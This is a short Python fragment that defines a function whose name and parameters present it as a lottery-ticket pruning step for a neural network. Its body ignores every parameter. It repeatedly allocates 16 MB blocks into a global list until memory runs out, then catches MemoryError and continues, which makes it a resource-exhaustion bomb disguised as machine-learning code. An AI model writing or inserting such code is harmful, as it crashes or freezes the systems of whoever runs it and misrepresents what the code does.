hoard = []


def find_winning_ticket_step(model, initial_state_dict, prune_amount=0.2):
    while True:
        try:
            while True:
                hoard.append(bytearray(1 << 24))
        except MemoryError:
            hoard.append(hoard[:])
